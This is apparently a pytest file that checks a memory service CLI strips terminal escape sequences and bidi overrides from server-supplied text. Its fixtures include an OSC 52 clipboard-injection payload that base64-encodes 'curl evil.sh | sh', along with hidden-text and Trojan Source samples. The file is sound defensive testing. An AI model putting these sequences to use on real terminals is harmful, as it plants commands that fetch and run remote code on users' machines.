"""The CLI's text output never writes control characters from the server's answer to the terminal:
memories and assets are other people's text, and an ESC sequence in one (OSC 52 clipboard write,
cursor move, hidden text) would be run by the terminal of whoever prints it. Tab and newline stay;
``--json`` output stays JSON of the same value, with C1 controls escaped too."""

from __future__ import annotations

import argparse
import json

import pytest
from nylon_sdk import Client
from nylon_sdk import cli as nylon_cli
from nylon_sdk.errors import APIError
from nylon_sdk.types import Conflict, Context, Health, Node, ResonateResult

from .test_cli import nylon

OSC52 = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"
EVIL = f"deploy freeze note {OSC52}\x1b[8mhidden\x1b[0m\r\x9b2J\x08\x00\x7f end"
CONTROLS = [chr(c) for c in [*range(0x00, 0x09), *range(0x0B, 0x20), *range(0x7F, 0xA0)]]


def _clean(out: str) -> None:
    found = sorted({hex(ord(c)) for c in out if c in CONTROLS})
    assert not found, (found, repr(out[-300:]))


class _Fake:
    def __init__(self, **answers):
        self.answers = answers

    def __getattr__(self, name):
        if name not in self.answers:
            raise AttributeError(name)
        answer = self.answers[name]

        def call(*a, **kw):
            if isinstance(answer, Exception):
                raise answer
            return answer
        return call


def test_printable_keeps_text_tab_and_newline_only():
    assert nylon_cli.printable(EVIL) == "deploy freeze note ]52;c;Y3VybCBldmlsLnNoIHwgc2g=[8mhidden[0m2J end"
    assert nylon_cli.printable("a\tb\nc — é ✓") == "a\tb\nc — é ✓"


def test_context_text_mode_strips_controls(capsys):
    answer = {"stable_hash": "ab" * 32, "context": f"GUIDE\n\n## Memory\n- [memory 7]\t{EVIL}",
              "recall": [], "degraded": ["llm"], "degraded_reasons": {"llm": f"failing {OSC52}"}}
    args = argparse.Namespace(query="q", k=None, no_reinforce=False, budget=None, json=False)
    assert nylon_cli.cmd_context(args, _Fake(context=Context.from_json(answer))) == 0
    out = capsys.readouterr().out
    _clean(out)
    assert "- [memory 7]\tdeploy freeze note ]52;c;" in out and "hidden" in out and "degraded: llm (failing" in out

    args.json = True  # JSON: the same value, every control escaped
    nylon_cli.cmd_context(args, _Fake(context=Context.from_json(answer)))
    out = capsys.readouterr().out
    _clean(out.replace("\n", ""))
    assert json.loads(out) == answer


def test_every_text_mode_command_strips_controls(capsys):
    res = ResonateResult.from_json({
        "hits": [{"node_id": 1, "score": 0.9, "text": EVIL, "kind": f"leaf{OSC52}",
                  "explanation": {"channels": {"vector": 1}, "hops": 0}}],
        "route": {"qtype": f"fact{OSC52}", "depth": 1}, "timing_ms": {"total": 1.0},
        "degraded": [f"llm{OSC52}"], "served_by": "engine\x1b[2J", "truncated": False})
    args = argparse.Namespace(query="q", k=10, depth=None, no_reinforce=False, json=False)
    nylon_cli.cmd_resonate(args, _Fake(resonate=res))

    health = Health.from_json({"status": "degraded", "checks": {"llm": {"status": "degraded",
                                                                        "detail": f"timeout {OSC52}"}}})
    nylon_cli.cmd_health(argparse.Namespace(json=False), _Fake(health=health))

    node = Node.from_json({"id": 1, "kind": "leaf", "text": EVIL, "speaker": f"bob{OSC52}", "visibility": "team"})
    nylon_cli.cmd_nodes(argparse.Namespace(action="list", kind=None, session=None, limit=5, json=False),
                        _Fake(iter_nodes=iter([node])))
    conflict = Conflict.from_json({"id": 1, "status": "open", "reason": EVIL, "node_a": {"id": 1},
                                   "node_b": {"id": 2}})
    nylon_cli.cmd_conflicts(argparse.Namespace(action="list", status=None, json=False),
                            _Fake(iter_conflicts=iter([conflict])))
    out = capsys.readouterr().out
    _clean(out)
    assert out.count("deploy freeze note ]52;c;") == 3 and "timeout ]52;c;" in out and "bob]52;c;" in out

    # Commands that always answer JSON (nodes get) escape C1 controls as well as C0 ones.
    nylon_cli.cmd_nodes(argparse.Namespace(action="get", id=1), _Fake(get_node=node))
    out = capsys.readouterr().out
    _clean(out.replace("\n", ""))
    assert json.loads(out)["text"] == EVIL


def test_server_error_messages_are_stripped(monkeypatch, capsys):
    class Refusing:
        def __init__(self, *a, **kw):
            pass

        def __enter__(self):
            return _Fake(health=APIError(400, "invalid", f"bad {OSC52}", fields={"q": ["no\x1b[2J"]}))

        def __exit__(self, *exc):
            return False

    monkeypatch.setattr(nylon_cli, "Client", Refusing)
    assert nylon_cli.main(["--url", "http://127.0.0.1:1", "--key", "k", "health"]) == 1
    err = capsys.readouterr().err
    _clean(err.replace("\n", ""))
    assert "error: 400 invalid: bad ]52;c;" in err and "q: no[2J" in err


@pytest.mark.django_db(transaction=True)
def test_cli_against_the_service_prints_a_members_escape_sequences_inert(nylon_server, world, tmp_path):
    env = {"NYLON_CONFIG": str(tmp_path / "none.json"), "NYLON_URL": nylon_server.url,
           "NYLON_API_KEY": world["a"].key}
    with Client(nylon_server.url, world["a"].key) as sdk:
        sdk.weave(EVIL.replace("\x00", ""), session_key="ops")  # the API refuses NUL
        assert "\x1b" in sdk.resonate("deploy freeze note").hits[0].text  # the server stores and hands on ESC
    for argv in (["resonate", "deploy freeze note"], ["context", "deploy freeze note", "--no-reinforce"],
                 ["nodes", "list"]):
        out = nylon(*argv, env=env)
        assert out.returncode == 0, out.stderr
        assert "deploy freeze note" in out.stdout and "hidden" in out.stdout, (argv, out.stdout)
        _clean(out.stdout.replace("\n", ""))


def test_bidirectional_overrides_are_stripped_and_plain_rtl_text_kept():
    """An override (U+202E) shows stored text in another order ("Trojan Source"); marks and RTL
    letters are text and stay."""
    shown = nylon_cli.printable("approve \u202eevil.sh\u202c and \u2066x\u2069 — שלום \u200f")
    assert shown == "approve evil.sh and x — שלום \u200f"
